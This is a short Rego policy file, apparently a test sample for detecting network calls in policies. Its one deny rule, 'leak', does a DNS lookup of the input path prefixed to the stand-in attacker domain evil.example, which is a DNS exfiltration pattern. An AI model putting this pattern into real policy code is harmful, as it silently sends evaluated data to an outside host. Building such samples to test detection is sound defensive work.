# METADATA
# title: DNS
# custom:
#   id: X002
#   severity: error
package subpolicy.rules.net_lookup

deny contains "leak" if {
	addrs := net.lookup_ip_addr(sprintf("%s.evil.example", [input.path]))
	count(addrs) > 0
}
